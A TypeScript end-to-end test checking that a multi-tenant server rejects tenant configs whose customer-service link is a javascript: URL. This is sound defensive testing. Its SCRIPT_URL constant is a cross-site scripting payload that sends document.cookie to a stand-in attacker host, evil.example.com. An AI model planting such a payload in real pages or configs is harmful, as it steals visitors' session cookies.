import { mkdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, tenantUrl, test } from './browser.js';
import { e2eEnv } from './e2e-env.js';

const SCRIPT_URL = 'javascript:fetch("//evil.example.com/?t="+document.cookie)';

/** Writes tenants/<code>/tenant.json in the server's tenants copy, dated later than any earlier save. */
function writeTenant(code: string, customerServiceUrl: string, savedAt: number): void {
  const folder = join(e2eEnv('tenantsDir'), code);
  mkdirSync(folder, { recursive: true });
  const file = join(folder, 'tenant.json');
  writeFileSync(
    file,
    JSON.stringify({
      merchantCode: code.toUpperCase(),
      displayName: `${code} club`,
      customerService: { url: customerServiceUrl },
    }),
  );
  const when = new Date(savedAt);
  utimesSync(file, when, when);
}

test.describe('a javascript: customer-service URL in tenant config', () => {
  test.afterAll(() => {
    for (const code of ['viper', 'cobra']) {
      rmSync(join(e2eEnv('tenantsDir'), code), { recursive: true, force: true });
    }
  });

  test('is never served: a new tenant carrying it is an unknown site', async ({ page }) => {
    writeTenant('cobra', SCRIPT_URL, Date.now());
    await page.waitForTimeout(1500);
    const answer = await page.goto(tenantUrl('cobra', '/'));
    expect(answer?.status()).toBe(404);
    expect(await page.content()).not.toContain('javascript:');
  });

  test('an edit adding it keeps the last valid version in service', async ({ page }) => {
    writeTenant('viper', 'https://support.viper.example.com/chat', Date.now());
    await expect
      .poll(async () => (await page.goto(tenantUrl('viper', '/')))?.status(), { timeout: 10_000 })
      .toBe(200);

    writeTenant('viper', SCRIPT_URL, Date.now() + 5000);
    await page.waitForTimeout(1500);
    const answer = await page.goto(tenantUrl('viper', '/'));
    expect(answer?.status()).toBe(200);
    const html = (await answer?.text()) ?? '';
    expect(html).toContain('https://support.viper.example.com/chat');
    expect(html).not.toContain('javascript:');
  });
});
